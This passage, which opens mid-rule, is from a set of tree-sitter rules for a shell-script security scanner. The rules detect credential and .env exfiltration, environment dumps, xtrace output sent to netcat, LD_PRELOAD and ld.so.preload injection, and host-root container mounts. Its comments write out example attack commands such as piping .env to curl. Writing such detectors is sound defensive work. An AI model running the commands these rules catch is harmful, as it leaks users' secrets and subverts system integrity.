 (#resolves-to? @n "curl|wget|fetch|aria2c|https?|xhs?|lwp-request|GET|POST|lynx|w3m|e?links|nc|ncat|netcat|nc\\.traditional|nc\\.openbsd|socat|telnet|scp|sftp|ftp|lftp|tftp|openssl|mail|mailx|sendmail|mutt|msmtp|swaks")
 (#bound-text-match? @data "(?<![\\w.-])(gh\\s+auth\\s+token|gcloud\\s+auth\\s+(application-default\\s+)?print-(access|identity)-token|aws\\s+(configure\\s+(export-credentials|get\\s+\\S*(secret|token|key))|sts\\s+get-session-token)|az\\s+account\\s+get-access-token|kubectl\\s+config\\s+view\\s+(.*\\s)?--raw|docker-credential-\\S+\\s+get|vault\\s+print\\s+token|op\\s+read|secret-tool\\s+lookup|pass\\s+show|heroku\\s+auth:token|gpg2?\\s+(.*\\s)?--export-secret-(sub)?keys|kubectl\\s+(.*\\s)?get\\s+secrets?|aws\\s+secretsmanager\\s+get-secret-value|aws\\s+ssm\\s+get-parameters?\\s+(.*\\s)?--with-decryption|gcloud\\s+secrets\\s+versions\\s+access|az\\s+keyvault\\s+secret\\s+show|vault\\s+(kv\\s+)?(get|read)|keyctl\\s+(print|pipe|read)|my_print_defaults\\s+(.*\\s)?(client|mysql|mysqldump|mysqladmin)|mysql(dump|admin)?\\s+(.*\\s)?--print-defaults|p?npm\\s+config\\s+get\\s+\\S*_auth(Token)?|yarn\\s+config\\s+get\\s+npmAuthToken)(?![\\w.:-])")
 (#set! id "sh-credentials")
 (#set! severity "high")
 (#set! message "sends a token or secret that a tool printed, kept in a variable, over the network (gh auth token, gcloud auth print-access-token, secret-tool lookup)"))

((pipeline (_) @src (_) @sink) @finding
 (#contains-call? @sink "curl|wget|fetch|aria2c|https?|xhs?|lwp-request|GET|POST|lynx|w3m|e?links|nc|ncat|netcat|nc\\.traditional|nc\\.openbsd|socat|telnet|scp|sftp|ftp|lftp|tftp|openssl|mail|mailx|sendmail|mutt|msmtp|swaks")
 (#bound-text-match? @src "(?<![\\w.-])(gh\\s+auth\\s+token|gcloud\\s+auth\\s+(application-default\\s+)?print-(access|identity)-token|aws\\s+(configure\\s+(export-credentials|get\\s+\\S*(secret|token|key))|sts\\s+get-session-token)|az\\s+account\\s+get-access-token|kubectl\\s+config\\s+view\\s+(.*\\s)?--raw|docker-credential-\\S+\\s+get|vault\\s+print\\s+token|op\\s+read|secret-tool\\s+lookup|pass\\s+show|heroku\\s+auth:token|gpg2?\\s+(.*\\s)?--export-secret-(sub)?keys|kubectl\\s+(.*\\s)?get\\s+secrets?|aws\\s+secretsmanager\\s+get-secret-value|aws\\s+ssm\\s+get-parameters?\\s+(.*\\s)?--with-decryption|gcloud\\s+secrets\\s+versions\\s+access|az\\s+keyvault\\s+secret\\s+show|vault\\s+(kv\\s+)?(get|read)|keyctl\\s+(print|pipe|read)|my_print_defaults\\s+(.*\\s)?(client|mysql|mysqldump|mysqladmin)|mysql(dump|admin)?\\s+(.*\\s)?--print-defaults|p?npm\\s+config\\s+get\\s+\\S*_auth(Token)?|yarn\\s+config\\s+get\\s+npmAuthToken)(?![\\w.:-])")
 (#set! id "sh-credentials")
 (#set! severity "high")
 (#set! message "sends a token or secret that a tool printed, kept in a variable, over the network (gh auth token, gcloud auth print-access-token, secret-tool lookup)"))

; A project's .env: a script that sources it (set -a; . ./.env) or names
; it in a message configures itself; one that gives it to a network client
; (curl -F f=@.env, nc h < .env, cat .env | curl -d @- u, curl -d "$(cat
; .env)" u) sends its secrets out; --exclude .env keeps it out
((command argument: (_) @f) @n @finding
 (#resolves-to? @n "curl|wget|fetch|aria2c|https?|xhs?|lwp-request|GET|POST|lynx|w3m|e?links|nc|ncat|netcat|nc\\.traditional|nc\\.openbsd|socat|telnet|scp|sftp|ftp|lftp|tftp|openssl|mail|mailx|sendmail|mutt|msmtp|swaks")
 (#value-match? @f "(^|[/\\s=:@<\"'])\\.env(\\.(?!(example|sample|template|dist|defaults?)(?![\\w-]))[\\w-]+)?(?![\\w.-])")
 (#set! id "sh-credentials")
 (#set! severity "high")
 (#set! message "sends a .env file, where a project keeps its secrets, over the network"))

((command) @n @finding
 (#resolves-to? @n "curl|wget|fetch|aria2c|https?|xhs?|lwp-request|GET|POST|lynx|w3m|e?links|nc|ncat|netcat|nc\\.traditional|nc\\.openbsd|socat|telnet|scp|sftp|ftp|lftp|tftp|openssl|mail|mailx|sendmail|mutt|msmtp|swaks")
 (#not-match? @n "--exclude")
 (#match? @n "(^|[/\\s=:@<\"'])\\.env(\\.(?!(example|sample|template|dist|defaults?)(?![\\w-]))[\\w-]+)?(?![\\w.-])")
 (#set! id "sh-credentials")
 (#set! severity "high")
 (#set! message "sends a .env file, where a project keeps its secrets, over the network"))

((redirected_statement body: (command) @n redirect: (file_redirect destination: (_) @f)) @finding
 (#resolves-to? @n "curl|wget|fetch|aria2c|https?|xhs?|lwp-request|GET|POST|lynx|w3m|e?links|nc|ncat|netcat|nc\\.traditional|nc\\.openbsd|socat|telnet|scp|sftp|ftp|lftp|tftp|openssl|mail|mailx|sendmail|mutt|msmtp|swaks")
 (#value-match? @f "(^|[/\\s=:@<\"'])\\.env(\\.(?!(example|sample|template|dist|defaults?)(?![\\w-]))[\\w-]+)?(?![\\w.-])")
 (#set! id "sh-credentials")
 (#set! severity "high")
 (#set! message "sends a .env file, where a project keeps its secrets, over the network"))

((pipeline) @finding
 (#not-match? @finding "--exclude")
 (#match? @finding "(^|[/\\s=:@<\"'])\\.env(\\.(?!(example|sample|template|dist|defaults?)(?![\\w-]))[\\w-]+)?(?![\\w.-])")
 (#contains-call? @finding "curl|wget|fetch|aria2c|https?|xhs?|lwp-request|GET|POST|lynx|w3m|e?links|nc|ncat|netcat|nc\\.traditional|nc\\.openbsd|socat|telnet|scp|sftp|ftp|lftp|tftp|openssl|mail|mailx|sendmail|mutt|msmtp|swaks")
 (#set! id "sh-credentials")
 (#set! severity "high")
 (#set! message "sends a .env file, where a project keeps its secrets, over the network"))

; ---- the environment ----

; env, printenv, env -0, env -u HOME: no command to run (`env FOO=1 cmd`
; runs cmd) and no variable named (`printenv HOME`)
((command) @finding
 (#resolves-to? @finding "(env|printenv) -")
 (#set! id "sh-env-dump")
 (#set! severity "warn")
 (#set! message "prints the whole environment, where secrets usually are"))

; ps eww -p $$, ps axe: BSD ps's e option prints a process's environment
; after its command line (ps -e, every process, is not; nor a word after
; an option that takes one: ps -C sleep); systemctl --user
; show-environment, tmux show-environment -g: the session manager's
; environment, handed to every service or window it starts
((command) @n @finding
 (#resolves-to? @n "ps|systemctl|tmux")
 (#match? @n "^(\\S*/)?(ps\\s+(.*\\s)?[auxwfjlsvrTchHnSmgLX]*e[auxwfjlsvrTchHnSmgLX]*(\\s|$)|(systemctl|tmux)\\s+(.*\\s)?show-environment\\b)")
 (#not-match? @n "\\s-[a-zA-Z]*[CGgpqstuUoOkN]\\s+[auxwfjlsvrTchHnSmgLX]*e[auxwfjlsvrTchHnSmgLX]*(\\s|$)")
 (#set! id "sh-env-dump")
 (#set! severity "warn")
 (#set! message "prints processes' or a session's environments (ps e, systemctl show-environment), where secrets usually are"))

; exec 7> >(nc h p); BASH_XTRACEFD=7; set -x; : "$SECRET", exec 2> >(curl
; -T - u); set -x: bash's trace, every command with its words expanded
; (the environment's values among them), written to a network client
([(command name: (command_name) @nm) (variable_assignment name: (variable_name) @nm)] @set @finding
 (#any-of? @nm "set" "BASH_XTRACEFD")
 (#match? @set "^(BASH_XTRACEFD=|set\\s+(.*\\s)?(-[a-zA-Z]*x|-o\\s+xtrace)(\\s|$))")
 (#after-match? @set "^exec\\s+(\\{\\w+\\}|[0-9]+)?>\\s*>\\(\\s*(\\S*/)?(nc|ncat|netcat|nc\\.traditional|nc\\.openbsd|socat|telnet|curl|wget|openssl|ssh|logger|mosquitto_pub|kcat|kafkacat|redis-cli)\\s")
 (#set! id "sh-env-exfil")
 (#set! severity "high")
 (#set! message "sends bash's trace (set -x: every command with its variables' values) to a network client"))

; t=$(compgen -W 'cat curl' -- cu | tail -1); "$t" -d "$(env)" https://h/:
; the environment given, with an address, to a program whose name does not
; fold
((command name: (command_name) @nm) @n @finding
 (#match? @n "\\b(print)?env\\b")
 (#match? @n "://|[0-9]\\.[0-9]+\\.[0-9]+\\.[0-9]")
 (#contains-call? @n "env|printenv")
 (#unknown-code? @nm)
 (#set! id "sh-env-exfil")
 (#set! severity "high")
 (#set! message "gives the environment (env, printenv) and a network address to a program whose name is built at run time"))

; ssh -o SendEnv='*' host, scp -o "SendEnv AWS_*" f host:, rsync -e 'ssh
; -oSendEnv=*TOKEN*': every variable, or those holding secrets, sent to the
; server at login (LANG LC_*, the locale, is what SendEnv is for)
((command) @n @finding
 (#resolves-to? @n "ssh|scp|sftp|rsync|autossh|sshpass")
 (#match? @n "(?i:SendEnv)\\s*(=\\s*|\\s)[\"']?([^\\s\"'=]+\\s+)*(\\*|\\S*(SECRET|TOKEN|PASSW|API_?KEY|AWS_|GITHUB_|CREDENTIAL)\\S*)([\\s\"']|$)")
 (#set! id "sh-env-exfil")
 (#set! severity "high")
 (#set! message "sends every environment variable, or those holding secrets, to an SSH server (SendEnv *)"))

; compgen -e, compgen -v, compgen -A export: every variable's name (with
; ${!v}, its value)
((command argument: (_) @opt) @n @finding
 (#resolves-to? @n "compgen")
 (#value-match? @opt "^-[a-zA-Z]*[ev][a-zA-Z]*$|^(export|variable)$")
 (#set! id "sh-env-dump")
 (#set! severity "warn")
 (#set! message "lists every variable (compgen), the way to dump the environment without naming env"))

; for v in ${!A*} ${!B*} ${!_*}: the names of every variable with a short
; prefix, one letter at a time, or of the variables where providers keep
; their keys and tokens (${!AWS@}, ${!GITHUB_*}, ${!OPENAI@}); with ${!v},
; their values; ${!MYAPP_@}, a program's own namespace, is not a dump
((expansion) @finding
 (#match? @finding "^\\$\\{!([A-Za-z_][A-Za-z0-9_]?|(AWS|GITHUB|GH|GITLAB|OPENAI|ANTHROPIC|AZURE|ARM|GOOGLE|GCP|GCLOUD|NPM|DOCKER|SSH|SLACK|STRIPE|HF|HUGGINGFACE|TWILIO|HEROKU|CLOUDFLARE|VAULT|DATABASE|SECRET|TOKEN|API)_?)[*@]\\}$")
 (#set! id "sh-env-dump")
 (#set! severity "warn")
 (#set! message "lists the names of every variable by prefix (${!A*}), a way to dump the environment without naming env"))

; set (with no arguments it prints every variable); not opts=(set -eu);
; "${opts[@]}", whose words are its arguments
((command name: (_) .) @n @finding
 (#resolves-to? @n "set")
 (#not-match? @n "^\\s*set\\s+\\S")
 (#set! id "sh-env-dump")
 (#set! severity "warn")
 (#set! message "prints every shell variable, where secrets usually are"))

; export, export -p, declare -x, declare -p, typeset -px (with nothing declared)
((declaration_command) @finding
 (#match? @finding "^(export|declare|typeset)(\\s+-[a-zA-Z]*[px][a-zA-Z]*)?$")
 (#set! id "sh-env-dump")
 (#set! severity "warn")
 (#set! message "prints every exported or declared variable, where secrets usually are"))

; jq -n env, jq -n '$ENV', awk 'BEGIN { for (k in ENVIRON) print k, ENVIRON[k] }',
; perl -e 'print %ENV', ruby -e 'p ENV.to_h': the whole environment printed
; by another tool ($ENV.HOME, ENVIRON["HOME"], $ENV{HOME}: one variable, are not)
((command) @n @finding
 (#resolves-to? @n "jq|gojq|jaq|[gmn]?awk|busybox awk|perl[0-9.]*|ruby[0-9.]*|php[0-9.]*")
 (#match? @n "(?<![\\w.$])\\$ENV(?![\\w.\\[{])|(^|[\\s'\"|(,;]\\s*)env\\s*($|['\"|),;])|\\bin\\s+ENVIRON\\s*\\)|%ENV(?!\\s*\\{)|\\bENV\\.(to_h|to_a|to_hash|each|each_pair|map|inspect|keys|sort|select)\\b|\\bgetenv\\(\\s*\\)|\\$_ENV(?!\\s*\\[)")
 (#set! id "sh-env-dump")
 (#set! severity "warn")
 (#set! message "prints the whole environment through another tool (jq env, awk ENVIRON, perl %ENV), where secrets usually are"))

; data=$(cat .env), b=$(base64 -w0 < .env): a .env's whole text read
; into the program, an environment dump of its own (sh-env-exfil, high,
; when the program also talks to the network); a key picked out of it
; (grep '^KEY=' .env) or the file sourced is not
((command_substitution) @finding
 (#match? @finding "^\\$\\(\\s*(\\S*/)?(cat|base64|base32|xxd|od|hexdump|gzip|bzip2|xz|zstd|tar|zip|openssl|tac|rev)\\s[^|)]*\\.env(?![\\w.-])[^|)]*(\\||\\))|^\\$\\(\\s*<\\s*\\S*\\.env\\s*\\)")
 (#set! id "sh-env-dump")
 (#set! severity "warn")
 (#set! message "reads a whole .env file, where a project keeps its secrets, into the program"))

; ---- native code ----

; LD_PRELOAD=/tmp/x.so cmd, export LD_PRELOAD=..., LD_AUDIT: a library loaded
; into every program started (AWKLIBPATH: where gawk -l finds its shared objects)
((variable_assignment name: (variable_name) @v) @finding
 (#match? @v "^(LD_PRELOAD|LD_AUDIT|LD_PROFILE|GCONV_PATH|GTK_MODULES|GTK3_MODULES|AWKLIBPATH)$")
 (#set! id "sh-native-code")
 (#set! severity "high")
 (#set! message "loads a native library into the programs it starts (LD_PRELOAD), which bypasses what they check"))

; env LD_PRELOAD=/tmp/x.so cmd, GCONV_PATH=/tmp/g iconv (iconv loads a
; gconv module, a shared object, from that directory): the same as a word
((command argument: (_) @v) @n @finding
 (#resolves-to? @n "env|sudo|doas|systemd-run|run0")
 (#value-match? @v "^(LD_PRELOAD|LD_AUDIT|LD_PROFILE|GCONV_PATH|GTK_MODULES|GTK3_MODULES|AWKLIBPATH)=")
 (#set! id "sh-native-code")
 (#set! severity "high")
 (#set! message "loads a native library into the programs it starts (LD_PRELOAD, GCONV_PATH), which bypasses what they check"))

; echo /usr/lib/x.so | sudo tee -a /etc/ld.so.preload, cp x /etc/ld.so.preload,
; echo "$lib" >> /etc/ld.so.preload: the dynamic loader loads every library
; named in that file into every program started on the system
((command argument: (_) @dst) @w @finding
 (#resolves-to? @w "tee|dd|sponge|cp|install|mv|ln|rsync")
 (#value-match? @dst "^(of=)?/etc/ld\\.so\\.preload$")
 (#set! id "sh-native-code")
 (#set! severity "high")
 (#set! message "writes /etc/ld.so.preload, whose libraries the loader puts into every program started, which bypasses what they check"))

((file_redirect destination: (_) @dst) @finding
 (#value-match? @dst "^/etc/ld\\.so\\.preload$")
 (#set! id "sh-native-code")
 (#set! severity "high")
 (#set! message "writes /etc/ld.so.preload, whose libraries the loader puts into every program started, which bypasses what they check"))

; JAVA_TOOL_OPTIONS="-agentpath:/tmp/x.so", java -agentpath:$d/lib.so -jar
; app.jar, _JAVA_OPTIONS, JDK_JAVA_OPTIONS: the JVM loads a shared object as
; an agent (-agentlib:jdwp, a library of the JDK by name, and -javaagent, a
; jar, are not native code of the program's choosing)
((variable_assignment name: (variable_name) @v value: (_) @opts) @finding
 (#match? @v "^(JAVA_TOOL_OPTIONS|_JAVA_OPTIONS|JDK_JAVA_OPTIONS|JAVA_OPTS|MAVEN_OPTS|GRADLE_OPTS|SBT_OPTS)$")
 (#match? @opts "(^|[\\s\"'=])-agentpath:")
 (#set! id "sh-native-code")
 (#set! severity "high")
 (#set! message "loads a native library into the JVM as an agent (-agentpath:), which runs before the program and bypasses what it checks"))

((command) @finding
 (#match? @finding "(?<=[\\s\"'])(-agentpath:|(JAVA_TOOL_OPTIONS|_JAVA_OPTIONS|JDK_JAVA_OPTIONS|JAVA_OPTS|MAVEN_OPTS|GRADLE_OPTS|SBT_OPTS)=[^\\n]*-agentpath:)")
 (#set! id "sh-native-code")
 (#set! severity "high")
 (#set! message "loads a native library into the JVM as an agent (-agentpath:), which runs before the program and bypasses what it checks"))

; env "$v=$dir/x.so" cmd, export "$v=$lib", env "$v"=$lib cmd (v folds to
; LD_PRELOAD): the variable's name is built, its value is not known
([(command argument: [(string . [(simple_expansion) (expansion)] @name . (string_content) @eq)
                      (concatenation . [(string) (simple_expansion) (expansion)] @name . (word) @eq)]) @n
  (declaration_command [(string . [(simple_expansion) (expansion)] @name . (string_content) @eq)
                        (concatenation . [(string) (simple_expansion) (expansion)] @name . (word) @eq)]) @n] @finding
 (#match? @eq "^=")
 (#match? @n "^(\\S*/)?(env|sudo|doas|systemd-run|run0|export|declare|typeset|local|readonly)\\s")
 (#value-match? @name "^(LD_PRELOAD|LD_AUDIT|LD_PROFILE|GCONV_PATH|GTK_MODULES|GTK3_MODULES|AWKLIBPATH)$")
 (#set! id "sh-native-code")
 (#set! severity "high")
 (#set! message "loads a native library into the programs it starts (a variable named LD_PRELOAD by a value), which bypasses what they check"))

; openssl req -engine /tmp/x.so, openssl s_client -provider-path d: a
; shared object loaded into openssl as an engine or provider
((command argument: (_) @flag . argument: (_) @so) @n @finding
 (#resolves-to? @n "openssl")
 (#match? @flag "^-(engine|provider|provider-path|keyform_engine)$")
 (#value-match? @so "/|\\.so(\\.|$)")
 (#set! id "sh-native-code")
 (#set! severity "high")
 (#set! message "loads a shared object as native code into openssl (-engine, -provider)"))

; openssl engine dynamic -pre SO_PATH:./x.so -pre LOAD: the dynamic engine
; loads the shared object its SO_PATH control names
((command argument: (_) @flag . argument: (_) @so) @n @finding
 (#resolves-to? @n "openssl")
 (#match? @flag "^-pre$")
 (#text-or-bound-match? @so "^[\"']?SO_PATH:")
 (#set! id "sh-native-code")
 (#set! severity "high")
 (#set! message "loads a shared object as native code into openssl (engine dynamic -pre SO_PATH:...)"))

;   openssl req -engine "$d/e.so": an engine or provider the analysis cannot name
((command argument: (_) @flag . argument: (_) @so) @n @finding
 (#resolves-to? @n "openssl")
 (#match? @flag "^-(engine|provider|provider-path|keyform_engine)$")
 (#not-value-match? @so "")
 (#set! id "sh-native-code")
 (#set! severity "high")
 (#set! message "loads an engine or provider into openssl whose name is built at run time, possibly a shared object (-engine, -provider)"))

; enable -f ./x.so name (a shared object loaded into bash as a builtin),
; ssh-keygen -D ./x.so, ssh-add -s ./x.so (-S), ssh -I ./x.so, ssh -o
; PKCS11Provider=./x.so (a PKCS#11 or FIDO provider): native code (a
; provider the system installed, under /usr/lib or /lib, is not)
((command) @n @finding
 (#resolves-to? @n "enable|ssh-keygen|ssh-add|ssh|scp|sftp")
 (#match? @n "^(\\S*/)?(enable\\s+(.*\\s)?-[a-zA-Z]*f|ssh-keygen\\s+(.*\\s)?-[a-zA-Z]*D(\\s|$)|ssh-add\\s+(.*\\s)?-[a-zA-Z]*[sS](\\s|$)|ssh\\s+(.*\\s)?-[a-zA-Z]*I(\\s|$)|(ssh|scp|sftp)\\s+(.*\\s)?-o\\s*[\"']?(?i:pkcs11provider|securitykeyprovider)\\b)")
 (#not-match? @n "(\\s-[a-zA-Z]*[DsSI]\\s+|(?i:provider)\\s*[= ]\\s*)[\"']?/(usr/)?lib(32|64)?/")
 (#set! id "sh-native-code")
 (#set! severity "high")
 (#set! message "loads a shared object as native code into bash (enable -f) or an SSH tool (ssh-keygen -D, ssh-add -s, ssh -I, PKCS11Provider=)"))

; curl -o "$d/libz.so.1" u, wget -P "$d" http://h/libssl.so.3, curl u >
; x.so: a shared library downloaded, whose only use is to be loaded into a
; program (LD_LIBRARY_PATH=$d curl --version, LD_PRELOAD, dlopen) or
; the kernel (.ko)
((command) @n @finding
 (#resolves-to? @n "curl|wget|fetch|aria2c|https?|xhs?|lwp-download|GET|lynx|w3m|e?links")
 (#match? @n "((?<!/)/|[\\s=\"'])[^/\\s\"'=]+\\.(so(\\.[0-9]+)*|ko)[\"']?(\\s|$)")
 (#set! id "sh-native-code")
 (#set! severity "high")
 (#set! message "downloads a shared library or a kernel module, native code to be loaded"))

((redirected_statement body: (command) @n redirect: (file_redirect destination: (_) @so)) @finding
 (#resolves-to? @n "curl|wget|fetch|aria2c|https?|xhs?|lwp-request|GET|lynx|w3m|e?links")
 (#match? @so "\\.(so(\\.[0-9]+)*|ko)[\"']?$")
 (#set! id "sh-native-code")
 (#set! severity "high")
 (#set! message "downloads a shared library or a kernel module, native code to be loaded"))

; /lib64/ld-linux-x86-64.so.2 ./prog, insmod x.ko: native code run by the loader or the kernel
; (ld.so --list /bin/true, what ldd runs, lists the libraries and runs nothing)
((command) @n @finding
 (#resolves-to? @n "ld-linux.*\\.so.*|ld\\.so|ld-musl.*|insmod|modprobe")
 (#not-match? @n "^\\S+\\s+--(list|verify|help|version)(\\s|$)")
 (#set! id "sh-native-code")
 (#set! severity "high")
 (#set! message "runs native code through the dynamic loader or loads a kernel module"))

; sqlite3 db '.load ./x', SELECT load_extension('x'): a shared object
; loaded into sqlite3; ruby -rfiddle -e 'Fiddle.dlopen(p)', Fiddle::Handle.new(p),
; perl -e 'DynaLoader::dl_load_file(p)', tclsh's load ./x.so: into ruby,
; perl or tcl (ffi_lib of Ruby's ffi too); lua -e 'package.loadlib(p, f)()',
; luajit's ffi.load(p): into lua; R's dyn.load(p), julia's Libdl.dlopen(p),
; guile's (load-extension p f): into R, julia or guile
([(command argument: (_) @code)
  (redirected_statement body: (command) @n redirect: (heredoc_redirect (heredoc_body) @code))
  (command redirect: (herestring_redirect) @code)] @n @finding
 (#resolves-to? @n "sqlite3?|ruby[0-9.]*|perl[0-9.]*|tclsh[0-9.]*|wish[0-9.]*|lua[0-9.]*|luajit|R|Rscript|julia|guile[0-9.]*")
 (#value-match? @code "\\bdyn\\.load\\s*\\(|\\bdlopen\\s*\\(|\\(\\s*load-extension\\s|\\bpackage\\s*\\.\\s*loadlib\\b|\\bffi\\s*\\.\\s*load\\s*\\(|(^|\\n|;)\\s*\\.load\\s|(?i:\\bload_extension)\\s*\\(|\\bFiddle\\s*(\\.\\s*dlopen|::\\s*Handle)\\b|\\bDL\\s*\\.\\s*dlopen\\b|\\bffi_lib\\b|\\bdl_load_file\\b|(^|[\\n;\\[{])\\s*load\\s+[\"{]?(\\$|[^\\s;\"}]*\\.so\\b)")
 (#set! id "sh-native-code")
 (#set! severity "high")
 (#set! message "loads a shared object as native code into sqlite3, ruby, perl, tcl, lua, R, julia or guile (.load, load_extension, Fiddle.dlopen, dl_load_file, load, package.loadlib, dyn.load, dlopen, load-extension)"))

; gawk -l ./ext.so, gawk --load=/tmp/fmt, '@load "/tmp/x"': a shared object
; loaded into gawk (gawk's own extensions, -l ordchr or @load "time", are not)
((command) @n @finding
 (#resolves-to? @n "[gmn]?awk|busybox awk")
 (#match? @n "\\s(-l\\s*+|--load[=\\s]++)[\"']?(?!(filefuncs|fnmatch|fork|inplace|intdiv|ordchr|readdir|readfile|revoutput|revtwoway|rwarray|time)[\"']?(\\s|$))|@load\\s+[\"'](?!(filefuncs|fnmatch|fork|inplace|intdiv|ordchr|readdir|readfile|revoutput|revtwoway|rwarray|time)[\"'])")
 (#set! id "sh-native-code")
 (#set! severity "high")
 (#set! message "loads a shared object as native code into gawk (-l, @load)"))

; ---- containers ----

; docker run -v "$HOME":/w img, podman run -v /:/host, --mount
; type=bind,source=/,target=/h: the host's whole home or root directory
; handed to a container, where whatever it runs may delete or read all of
; it (a directory of a project, -v "$PWD":/src, is not)
((command) @n @finding
 (#resolves-to? @n "docker|podman|nerdctl|finch")
 (#match? @n "\\s(-v|--volume)[=\\s]*+[\"']?(~/*|\\$\\{?HOME\\}?/*|/+)[\"']?(:|\\s|$)|[\\s,=](src|source)=[\"']?(~/*|\\$\\{?HOME\\}?/*|/+)[\"']?(,|\\s|$)")
 (#set! id "sh-destructive")
 (#set! severity "high")
 (#set! message "hands the host's whole home or root directory to a container (docker run -v ~:/w), where whatever runs may delete or read all of it"))
